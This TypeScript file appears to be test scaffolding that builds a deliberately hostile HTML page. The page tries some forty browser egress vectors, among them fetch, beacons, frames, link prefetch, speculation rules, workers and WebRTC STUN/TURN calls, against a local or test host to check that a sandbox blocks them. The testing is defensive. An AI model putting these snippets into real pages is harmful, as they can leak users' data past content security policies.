/** Where a hostile page wants its words to arrive: `127.0.0.1`, or a domain of which each way gets a name of its own. */
export type Target = { readonly host: string; readonly tcp: number; readonly udp: number }

/** One way out of a page: a script that tries it. `out` is the address to reach. */
type Vector = readonly [name: string, script: (out: string, target: Target) => string]

/** Ways out that leave the page where it is; each asks for an address of its own. */
export const vectorsInPage: readonly Vector[] = [
  ['fetch', (out) => `fetch('${out}', { mode: 'no-cors' })`],
  ['fetch-keepalive', (out) => `fetch('${out}', { method: 'POST', mode: 'no-cors', keepalive: true })`],
  ['xhr', (out) => `const x = new XMLHttpRequest(); x.open('GET', '${out}'); x.send()`],
  ['web-socket', (out) => `new WebSocket('${out.replace('http', 'ws')}')`],
  ['event-source', (out) => `new EventSource('${out}')`],
  ['beacon', (out) => `navigator.sendBeacon('${out}', 'words')`],
  ['web-transport', (out) => `new WebTransport('${out.replace('http:', 'https:')}')`],
  ['image', (out) => `new Image().src = '${out}'`],
  ['script', (out) => `add('script', { src: '${out}' })`],
  ['module', (out) => `import('${out}')`],
  ['style-sheet', (out) => `add('link', { rel: 'stylesheet', href: '${out}' })`],
  ['style-import', (out) => `add('style', { textContent: '@import url(${out});' })`],
  ['background', (out) => `add('style', { textContent: 'body { background: url(${out}) }' })`],
  [
    'font',
    (out) =>
      `add('style', { textContent: '@font-face { font-family: far; src: url(${out}) } p { font-family: far }' }); add('p', { textContent: 'far' })`,
  ],
  ['frame', (out) => `add('iframe', { src: '${out}' })`],
  ['object', (out) => `add('object', { data: '${out}', type: 'text/html' })`],
  ['embed', (out) => `add('embed', { src: '${out}', type: 'text/html' })`],
  ['video', (out) => `add('video', { src: '${out}', preload: 'auto' }).load()`],
  ['svg', (out) => `document.body.insertAdjacentHTML('beforeend', '<svg><image href="${out}"/></svg>')`],
  [
    'form-in-frame',
    (out) =>
      `add('iframe', { name: 'f' }); add('form', { action: '${out}', method: 'post', target: 'f' }).submit()`,
  ],
  [
    'refresh-in-frame',
    (out) => `add('iframe', { srcdoc: '<meta http-equiv=refresh content="0;url=${out}">' })`,
  ],
  ['window-open', (out) => `open('${out}')`],
  ['link-in-new-window', (out) => `add('a', { href: '${out}', target: '_blank' }).click()`],
  ['ping', (out) => `add('a', { href: '#here', ping: '${out}' }).click()`],
  ['dns-prefetch', (out) => `add('link', { rel: 'dns-prefetch', href: '${out}' })`],
  ['preconnect', (out) => `add('link', { rel: 'preconnect', href: '${out}' })`],
  ['prefetch', (out) => `add('link', { rel: 'prefetch', href: '${out}' })`],
  ['preload', (out) => `add('link', { rel: 'preload', as: 'image', href: '${out}' })`],
  ['module-preload', (out) => `add('link', { rel: 'modulepreload', href: '${out}' })`],
  [
    'speculation',
    (out) =>
      `add('script', { type: 'speculationrules', textContent: '{"prefetch":[{"source":"list","urls":["${out}"]}],"prerender":[{"source":"list","urls":["${out}"]}]}' })`,
  ],
  ['manifest', (out) => `add('link', { rel: 'manifest', href: '${out}' })`],
  ['icon', (out) => `add('link', { rel: 'icon', href: '${out}' })`],
  ['worker', (out) => `new Worker(URL.createObjectURL(new Blob(["importScripts('${out}')"])))`],
  [
    'worker-fetch',
    (out) => `new Worker(URL.createObjectURL(new Blob(["fetch('${out}', { mode: 'no-cors' })"])))`,
  ],
  ['service-worker', (out) => `navigator.serviceWorker.register('/worker.js?${out}')`],
  ['stun', (_, { host, udp }) => `call({ urls: 'stun:${host}:${udp}' })`],
  ['turn-udp', (_, { host, udp }) => `call({ urls: 'turn:${host}:${udp}', username: 'u', credential: 'c' })`],
  [
    'turn-tcp',
    (_, { host, tcp }) =>
      `call({ urls: 'turn:${host}:${tcp}?transport=tcp', username: 'u', credential: 'c' })`,
  ],
]

/** Ways out by which the page itself leaves: one page for each. */
export const vectorsAway: readonly Vector[] = [
  ['location', (out) => `location.href = '${out}'`],
  ['download', (out) => `add('a', { href: '${out}', download: 'words.txt' }).click()`],
  ['link', (out) => `add('a', { href: '${out}' }).click()`],
  ['form', (out) => `add('form', { action: '${out}', method: 'post' }).submit()`],
  ['refresh', (out) => `add('meta', { httpEquiv: 'refresh', content: '0;url=${out}' })`],
]

/** Ways that carry no request which a server or the session could name: calls, lookups, mere connections, and what Electron leaves out. */
const nameless: ReadonlySet<string> = new Set([
  'web-transport',
  'dns-prefetch',
  'preconnect',
  'manifest',
  'icon',
  'service-worker',
  'stun',
  'turn-udp',
  'turn-tcp',
])

/** Every way that a server hears of by name where nothing stops it. */
export const namedVectors: readonly string[] = [...vectorsInPage, ...vectorsAway]
  .map(([name]) => name)
  .filter((name) => !nameless.has(name))
  .toSorted()

const PRELUDE = `
  const add = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields))
  const calls = []
  const call = (server) => {
    const peer = new RTCPeerConnection({ iceServers: [server] })
    peer.createDataChannel('words')
    calls.push(new Promise((resolve) => {
      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve()
    }))
    return peer.setLocalDescription()
  }`

/** A page without any policy that tries every one of the ways, each on its own. Its `finished` resolves when its calls have given up. */
export function hostilePage(vectors: readonly Vector[], targets: readonly Target[]): string {
  const scripts = targets.flatMap((target) =>
    vectors.map(([name, script]) => {
      const host = target.host === '127.0.0.1' ? target.host : `${name}.${target.host}`
      return `try { ${script(`http://${host}:${target.tcp}/${name}`, { ...target, host })} } catch (error) { console.error(error) }`
    }),
  )
  const blocks = scripts.map((script) => `<script>{ ${script} }</script>`).join('\n')
  return `<!doctype html><title>Trying</title><body><script>${PRELUDE}</script>
${blocks}
<script>const finished = Promise.all(calls)</script></body>`
}
